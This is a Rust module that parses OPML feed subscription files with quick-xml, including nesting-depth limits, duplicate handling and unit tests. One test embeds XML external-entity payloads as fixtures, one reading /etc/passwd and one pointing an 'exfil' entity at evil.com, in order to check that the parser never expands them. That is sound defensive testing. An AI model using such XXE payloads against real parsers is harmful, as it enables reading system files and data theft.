use std::collections::HashSet;
use std::path::Path;

use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;
use thiserror::Error;

use crate::util::{first_non_empty, host_of_url};

/// Deepest `<outline>` nesting accepted before the document is rejected.
const MAX_OPML_DEPTH: usize = 50;

/// Errors that can occur while loading the subscription list.
///
/// The display text is what ends up in the subscription batch status.
#[derive(Debug, Error)]
pub enum OpmlError {
    #[error("OPML not found: {0}")]
    NotFound(String),

    #[error("OPML parse error: nesting depth exceeds maximum of {0} levels")]
    MaxDepthExceeded(usize),

    #[error("OPML parse error: {0}")]
    XmlParse(String),

    #[error("Failed to read OPML file: {0}")]
    Io(#[from] std::io::Error),
}

/// A feed subscription extracted from an OPML file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OpmlFeed {
    /// First non-empty of the `title` attribute, the `text` attribute, the
    /// host of `xml_url` and `xml_url` itself.
    pub title: String,
    /// URL of the RSS/Atom document.
    pub xml_url: String,
    /// URL of the feed's website, if provided via `htmlUrl`.
    pub html_url: Option<String>,
}

/// Reads and parses the OPML file at `path`.
pub async fn load(path: &Path) -> Result<Vec<OpmlFeed>, OpmlError> {
    let content = match tokio::fs::read_to_string(path).await {
        Ok(content) => content,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(OpmlError::NotFound(path.display().to_string()))
        }
        Err(e) => return Err(e.into()),
    };
    parse_opml_content(&content)
}

/// Extracts every `<outline>` carrying an `xmlUrl`, at any depth.
///
/// Folder outlines are traversed but not returned. When several outlines
/// point at the same `xmlUrl`, the first one wins.
///
/// quick-xml 0.37 never parses `<!ENTITY>` declarations: only the five XML
/// builtins are resolved and any other entity reference is an error, so
/// external entities cannot leak into feed data.
pub fn parse_opml_content(content: &str) -> Result<Vec<OpmlFeed>, OpmlError> {
    let mut reader = Reader::from_str(content);
    reader.config_mut().trim_text(true);

    let mut feeds = Vec::new();
    let mut seen = HashSet::new();
    let mut buf = Vec::new();
    let mut depth: usize = 0;

    loop {
        let outline = match reader.read_event_into(&mut buf) {
            Ok(Event::Start(e)) if e.name().as_ref() == b"outline" => {
                depth += 1;
                if depth > MAX_OPML_DEPTH {
                    return Err(OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH));
                }
                parse_outline_attributes(&e, &reader)?
            }
            // Self-closing outlines don't affect depth
            Ok(Event::Empty(e)) if e.name().as_ref() == b"outline" => {
                parse_outline_attributes(&e, &reader)?
            }
            Ok(Event::End(e)) if e.name().as_ref() == b"outline" => {
                depth = depth.saturating_sub(1);
                None
            }
            Ok(Event::Eof) => break,
            Err(e) => return Err(OpmlError::XmlParse(e.to_string())),
            _ => None,
        };

        if let Some(feed) = outline {
            if seen.insert(feed.xml_url.clone()) {
                feeds.push(feed);
            } else {
                tracing::debug!(url = %feed.xml_url, "Skipping duplicate OPML subscription");
            }
        }
        buf.clear();
    }

    Ok(feeds)
}

/// `Some` for outlines with a non-empty `xmlUrl`, `None` for folders.
fn parse_outline_attributes(
    e: &BytesStart<'_>,
    reader: &Reader<&[u8]>,
) -> Result<Option<OpmlFeed>, OpmlError> {
    let mut xml_url = None;
    let mut html_url = None;
    let mut title = None;
    let mut text = None;

    for attr_result in e.attributes() {
        let attr = match attr_result {
            Ok(attr) => attr,
            Err(e) => {
                tracing::warn!(error = %e, "Skipping malformed OPML attribute");
                continue;
            }
        };
        let slot = match attr.key.as_ref() {
            b"xmlUrl" => &mut xml_url,
            b"htmlUrl" => &mut html_url,
            b"title" => &mut title,
            b"text" => &mut text,
            _ => continue,
        };
        let value = attr
            .decode_and_unescape_value(reader.decoder())
            .map_err(|e| OpmlError::XmlParse(e.to_string()))?;
        *slot = Some(value.trim().to_string());
    }

    let Some(xml_url) = xml_url.filter(|u| !u.is_empty()) else {
        return Ok(None);
    };
    let host = host_of_url(&xml_url);
    let title = first_non_empty([
        title.as_deref(),
        text.as_deref(),
        Some(host.as_str()),
        Some(xml_url.as_str()),
    ]);

    Ok(Some(OpmlFeed {
        title,
        html_url: html_url.filter(|u| !u.is_empty()),
        xml_url,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_opml_content() {
        let content = r#"<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0">
  <head><title>Test Feeds</title></head>
  <body>
    <outline text="Blogs" title="Blogs">
      <outline type="rss" text="Example Blog" title="Example Blog" xmlUrl="https://example.com/feed.xml" htmlUrl="https://example.com"/>
      <outline type="rss" text="No HTML" title="No HTML" xmlUrl="https://nohtml.com/rss"/>
    </outline>
  </body>
</opml>"#;

        let feeds = parse_opml_content(content).unwrap();
        assert_eq!(feeds.len(), 2);

        assert_eq!(feeds[0].title, "Example Blog");
        assert_eq!(feeds[0].xml_url, "https://example.com/feed.xml");
        assert_eq!(feeds[0].html_url, Some("https://example.com".to_string()));

        assert_eq!(feeds[1].title, "No HTML");
        assert_eq!(feeds[1].html_url, None);
    }

    #[test]
    fn test_title_fallback_chain() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0"><body>
    <outline type="rss" title="  " text="Text Only" xmlUrl="https://textonly.com/feed"/>
    <outline type="rss" xmlUrl="https://NoTitle.com/feed"/>
    <outline type="rss" xmlUrl="not-a-url"/>
</body></opml>"#;

        let feeds = parse_opml_content(content).unwrap();
        let titles: Vec<&str> = feeds.iter().map(|f| f.title.as_str()).collect();
        assert_eq!(titles, vec!["Text Only", "notitle.com", "not-a-url"]);
    }

    #[test]
    fn test_duplicates_keep_first() {
        let content = r#"<?xml version="1.0"?>
<opml version="2.0"><body>
    <outline title="First" xmlUrl="https://dup.example.com/rss"/>
    <outline title="Other" xmlUrl="https://other.example.com/rss"/>
    <outline title="Second" xmlUrl="https://dup.example.com/rss"/>
    <outline title="Blank" xmlUrl="  "/>
</body></opml>"#;

        let feeds = parse_opml_content(content).unwrap();
        assert_eq!(feeds.len(), 2);
        assert_eq!(feeds[0].title, "First");
        assert_eq!(feeds[1].title, "Other");
    }

    #[test]
    fn test_local_and_non_http_urls_are_kept() {
        // Access policy is left to the fetcher; the list is taken as written.
        let content = r#"<?xml version="1.0"?>
<opml version="2.0"><body>
    <outline xmlUrl="http://127.0.0.1:8080/feed"/>
    <outline xmlUrl="http://localhost/feed"/>
</body></opml>"#;

        let feeds = parse_opml_content(content).unwrap();
        assert_eq!(feeds.len(), 2);
    }

    #[test]
    fn test_empty_opml() {
        let content = r#"<?xml version="1.0"?>
    <opml version="2.0"><body></body></opml>"#;

        assert!(parse_opml_content(content).unwrap().is_empty());
    }

    #[test]
    fn test_malformed_xml_error() {
        let err = parse_opml_content("<opml><body></opml>").unwrap_err();
        assert!(err.to_string().starts_with("OPML parse error"), "{}", err);
    }

    #[test]
    fn test_entities_are_never_expanded() {
        let external = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><body>
    <outline text="&xxe;" xmlUrl="https://example.com/feed.xml"/>
</body></opml>"#;
        let internal = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY internal "EXPANDED_VALUE">]>
<opml version="2.0"><body>
    <outline text="&internal;" xmlUrl="https://example.com/feed.xml"/>
</body></opml>"#;
        let in_url = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY exfil SYSTEM "https://evil.com/steal">]>
<opml version="2.0"><body>
    <outline text="Legit Feed" xmlUrl="&exfil;"/>
</body></opml>"#;

        for doc in [external, internal, in_url] {
            // Rejection is fine; expansion is not.
            if let Ok(feeds) = parse_opml_content(doc) {
                for feed in &feeds {
                    assert!(!feed.title.contains("root:"), "{}", feed.title);
                    assert!(!feed.title.contains("EXPANDED_VALUE"), "{}", feed.title);
                    assert!(!feed.xml_url.contains("evil.com"), "{}", feed.xml_url);
                }
            }
        }
    }

    #[test]
    fn test_deeply_nested_opml_rejected() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..100 {
            opml.push_str(r#"<outline text="level">"#);
        }
        for _ in 0..100 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let err = parse_opml_content(&opml).unwrap_err();
        let msg = err.to_string();
        assert!(msg.contains("depth") && msg.contains("50"), "{}", msg);
    }

    #[test]
    fn test_nesting_at_depth_limit_allowed() {
        let mut opml = String::from(r#"<?xml version="1.0"?><opml version="2.0"><body>"#);
        for _ in 0..50 {
            opml.push_str(r#"<outline text="level">"#);
        }
        opml.push_str(r#"<outline text="Deep Feed" xmlUrl="https://deep.example.com/feed"/>"#);
        for _ in 0..50 {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        let feeds = parse_opml_content(&opml).unwrap();
        assert_eq!(feeds.len(), 1);
        assert_eq!(feeds[0].title, "Deep Feed");
    }

    #[tokio::test]
    async fn test_load_missing_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("missing.opml");
        let err = load(&path).await.unwrap_err();
        assert!(matches!(err, OpmlError::NotFound(_)));
        assert!(err.to_string().starts_with("OPML not found: "));
    }

    #[tokio::test]
    async fn test_load_from_disk() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("subs.opml");
        std::fs::write(
            &path,
            r#"<opml version="2.0"><body><outline title="Disk" xmlUrl="https://disk.example/rss"/></body></opml>"#,
        )
        .unwrap();

        let feeds = load(&path).await.unwrap();
        assert_eq!(feeds[0].title, "Disk");
    }
}
